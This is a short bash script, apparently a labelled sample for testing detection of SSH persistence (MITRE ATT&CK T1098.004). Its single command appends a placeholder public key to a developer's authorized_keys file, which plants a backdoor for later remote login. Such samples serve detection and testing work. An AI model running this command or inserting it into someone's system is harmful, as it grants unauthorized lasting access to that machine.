#!/bin/bash
# tries: to let itself in by ssh later
# works: the file is the user's own
# see: MITRE ATT&CK T1098.004
# goal: change
# watch: /home/dev/.ssh
echo 'ssh-ed25519 AAAA left@behind' >>/home/dev/.ssh/authorized_keys
